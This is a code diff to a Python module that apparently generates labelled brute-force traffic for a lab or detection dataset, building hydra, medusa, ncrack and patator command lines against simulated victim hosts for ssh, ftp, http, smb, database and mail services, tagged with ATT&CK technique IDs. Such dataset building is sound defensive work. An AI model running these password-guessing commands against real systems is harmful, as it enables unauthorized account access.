@@ -7,11 +7,12 @@ service. In: a context and bounds. Out: attempts; truth by program and target, o
 import asyncio
 import base64
 import hashlib
+import os
 import struct
 from dataclasses import dataclass
 
 from ..catalog import hostile
-from .crew import Bounds, Pace, address_of, attempts, log_uniform, victim, victims
+from .crew import Bounds, Pace, address_of, attempts, log_uniform, run_bounded, victim, victims
 
 GUESS, SPRAY, STUFF = "T1110.001", "T1110.003", "T1110.004"
 _STEMS = ("password", "letmein", "welcome", "summer", "winter", "dragon", "monkey", "football", "qwerty", "admin", "root",
@@ -36,30 +37,30 @@ class Target:
 TARGETS = {
     "ssh": Target(("sshd",), 22, "ssh", "ssh", "ssh", "ssh_login"),
     "ftp": Target(("ftp",), 21, "ftp", "ftp", "ftp", "ftp_login"),
-    "http-basic": Target(("weakweb", "nginx"), 80, "http-get", "http", "http", "http_fuzz"),
+    "http-basic": Target(("api",), 8000, "http-get", "http", "http", "http_fuzz"),
     "http-form": Target(("weakweb", "nginx"), 80, "http-post-form", "", "", "http_fuzz"),
-    "smb": Target(("smb",), 445, "smb", "smbnt", "smb", ""),
+    "smb": Target(("smb",), 445, "", "smbnt", "smb", ""),
     "mysql": Target(("mysql",), 3306, "mysql", "mysql", "mysql", "mysql_login", ("root", "app", "admin")),
     "postgres": Target(("postgres",), 5432, "postgres", "postgres", "psql", "pgsql_login", ("postgres", "app", "admin")),
     "imap": Target(("mail",), 143, "imap", "imap", "imap", "imap_login"),
     "smtp": Target(("mail",), 587, "smtp", "smtp", "", "smtp_login"),
     "redis": Target(("redis",), 6379, "redis", "", "redis", "", ("default",)),
 }
-WEB_PORTS = {"weakweb": 8080, "nginx": 80}
+WEB_PORTS = {"weakweb": 8080, "nginx": 80, "api": 8000}
 
 
 class _Aim:
     """One service of one host, and the lists of words against it."""
 
-    def __init__(self, ctx, kind, port, where=None):
+    def __init__(self, ctx, kind, port, where=None, six_share=0.15):
         what, rng = TARGETS[kind], ctx.rng
         host = victim(ctx, *what.services, where=where)
         self.service = next(name for name in what.services if host.offers(name))
         usual = WEB_PORTS.get(self.service, what.port)
         own_port = kind not in ("imap", "smtp")  # a mail server has several
-        self.kind, self.address = kind, address_of(ctx, host)
+        self.kind, self.address = kind, address_of(ctx, host, six_share)
         self.port = port or (host.port(self.service, usual) if own_port else usual)
-        self.path = rng.choice(("/admin/", "/private/", "/manager/html", "/", "/login"))
+        self.path = "/admin/"
         self.form_path = rng.choice(("/login", "/login", "/wp-login.php", "/user/login"))
         self.to = [(self.address, self.port, "tcp")]
         self.url_host = f"[{self.address}]" if ":" in self.address else self.address
@@ -91,13 +92,13 @@ def credentials(ctx, kind, count) -> list[tuple[str, str]]:
 
 
 def _lists(ctx, kind, count):
-    """User and password files whose product is at most `count`, and how many guesses that is."""
+    """User and password files whose product is at most `count`, now and then with a right pair in it."""
     rng = ctx.rng
     users = min(max(count // 2, 1), rng.choice((1, 1, 1, 2, 4, 8)))
-    each = max(1, count // users)
-    guesses = credentials(ctx, kind, count)
-    names = list(dict.fromkeys(u for u, _ in guesses))[:users]
-    words = list(dict.fromkeys(w for _, w in guesses))[:each]
+    pool = list(dict.fromkeys([*(TARGETS[kind].users or rng.sample(_NAMES, 8)), *(name for name, _ in rng.sample(ctx.site.users, 6))]))
+    names, words = rng.sample(pool, min(users, len(pool))), passwords(rng, max(1, count // users))
+    if rng.random() < 0.33 and len(words) > 2:
+        names[rng.randrange(len(names))], words[rng.randrange(len(words) // 3, len(words))] = rng.choice(ctx.site.users)
     tag = rng.getrandbits(32)
     user_file, word_file = ctx.directory / f"users-{tag:08x}", ctx.directory / f"words-{tag:08x}"
     user_file.write_text("\n".join(names) + "\n")
@@ -111,7 +112,7 @@ def _lists(ctx, kind, count):
 def _register(kind, tool, call):
     @hostile(f"{kind}-guess-{tool}", label="brute-force", tool=tool, technique=GUESS)
     async def guess(ctx, flows, seconds, *, port=None, where=None, hands=None, per_s=None):
-        aim = _Aim(ctx, kind, port, where)
+        aim = _Aim(ctx, kind, port, where, 0 if tool in ("medusa", "ncrack", "patator") else 0.15)
         await call(ctx, aim, flows, seconds, hands or round(log_uniform(ctx.rng, 1, 32)), per_s)
 
 
@@ -132,8 +133,8 @@ async def _hydra(ctx, aim, flows, seconds, hands, per_s):
     argv = ["hydra", "-I", "-K", "-w", str(rng.randint(5, 32)), *pace, *(["-u"] if rng.random() < 0.5 else []),
             *(["-f"] if rng.random() < 0.3 else []), *(["-6"] if ":" in aim.address else [])]
     argv += ["-P", words] if module == "redis" else ["-L", users, "-P", words]
-    await ctx.run([*argv, "-s", str(aim.port), f"{module}://{aim.url_host}" + (options if options else "")],
-                  to=aim.to, timeout_s=seconds, cwd=ctx.directory)
+    await run_bounded(ctx, [*argv, "-s", str(aim.port), f"{module}://{aim.url_host}" + (options or "")],
+                      to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)
 
 
 async def _medusa(ctx, aim, flows, seconds, hands, per_s):
@@ -146,7 +147,7 @@ async def _medusa(ctx, aim, flows, seconds, hands, per_s):
         argv += ["-m", f"DIR:{aim.path}"]
     argv += ["-L"] if rng.random() < 0.3 else []
     argv += ["-f"] if rng.random() < 0.3 else []
-    await ctx.run(argv, to=aim.to, timeout_s=seconds, cwd=ctx.directory)
+    await run_bounded(ctx, argv, to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)
 
 
 async def _ncrack(ctx, aim, flows, seconds, hands, per_s):
@@ -161,10 +162,9 @@ async def _ncrack(ctx, aim, flows, seconds, hands, per_s):
     if aim.kind == "http-basic":
         options.append("path=" + aim.path.strip("/"))
     argv = ["ncrack", "-U", users, "-P", words, *(["--passwords-first"] if rng.random() < 0.4 else []),
-            *(["-f"] if rng.random() < 0.3 else []), *(["-6"] if ":" in aim.address else []),
-            "-m", f"{TARGETS[aim.kind].ncrack}:{','.join(options)}", "-T", str(rng.randint(2, 5)),
+            *(["-f"] if rng.random() < 0.3 else []), "-m", f"{TARGETS[aim.kind].ncrack}:{','.join(options)}", "-T", str(rng.randint(2, 5)),
             f"{TARGETS[aim.kind].ncrack}://{aim.url_host}:{aim.port}"]
-    await ctx.run(argv, to=aim.to, timeout_s=seconds, cwd=ctx.directory)
+    await run_bounded(ctx, argv, to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)
 
 
 async def _patator(ctx, aim, flows, seconds, hands, per_s):
@@ -177,14 +177,18 @@ async def _patator(ctx, aim, flows, seconds, hands, per_s):
         if aim.kind == "http-form":
             target = [f"url=http://{aim.url_host}:{aim.port}{aim.form_path}", "method=POST", "body=username=FILE0&password=FILE1",
                       "follow=0"]
+        target.append(f"resolve={aim.address}:{aim.address}")
     else:
         target = [f"host={aim.address}", f"port={aim.port}", "user=FILE0", "password=FILE1"]
     target += ["persistent=0"] if rng.random() < 0.5 and module not in ("mysql_login", "pgsql_login") else []
-    argv = ["patator", module, *target, f"0={users}", f"1={words}", "-t", str(threads), "--max-retries=0",
-            f"--timeout={rng.randint(3, 10)}", "-x", "quit:time=999"]
+    # It reads its standard input for commands, without pause once that has ended: a FIFO never ends.
+    keys = ctx.directory / f"keys-{rng.getrandbits(32):08x}"
+    os.mkfifo(keys)
+    argv = ["sh", "-c", 'exec 0<>"$0"; exec "$@"', keys, "patator", module, *target, f"0={users}", f"1={words}", "-t", str(threads), "--max-retries=0",
+            f"--timeout={rng.randint(3, 10)}"]
     rate = per_s or (log_uniform(rng, 0.1, 5) if rng.random() < 0.5 else None)
     argv += [f"--rate-limit={threads / rate:.2f}"] if rate else []
-    await ctx.run(argv, to=aim.to, timeout_s=seconds, cwd=ctx.directory)
+    await run_bounded(ctx, argv, to=aim.to, flows=flows, seconds=seconds, cwd=ctx.directory)
 
 
 # Our own: a dialogue logs in on an open connection as often as the server lets it.
